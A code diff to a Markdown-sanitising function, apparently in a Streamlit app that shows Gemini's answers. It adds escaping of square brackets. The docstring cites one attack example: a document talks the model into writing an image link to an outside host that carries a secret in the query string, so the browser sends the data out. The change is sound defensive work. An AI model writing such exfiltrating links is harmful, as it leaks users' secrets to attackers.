@@ -88,9 +88,13 @@ def md_safe(text: str) -> str:
     and Streamlit's colour directives as text. For the answer, which Gemini writes in Markdown.
 
     `&` and `<` become entities (tags print literally), `$` is escaped (Streamlit renders $..$ as math, and
-    financial text is full of dollars) and every `:` too (`:smile:` and `:red[...]` stay as typed).
+    financial text is full of dollars) and every `:` too (`:smile:` and `:red[...]` stay as typed). Square
+    brackets are escaped as well, so no link or image survives: a document that talks the model into writing
+    `![x](http://host/?q=secret)` would otherwise make the browser fetch that address (citations such as `[1]`
+    still read the same). With `:` escaped a bare `http://` no longer autolinks either.
     """
     text = text.replace("&", "&amp;").replace("<", "&lt;")
+    text = text.replace("[", "\\[").replace("]", "\\]")
     return text.replace("$", "\\$").replace(":", "\\:")
 
 
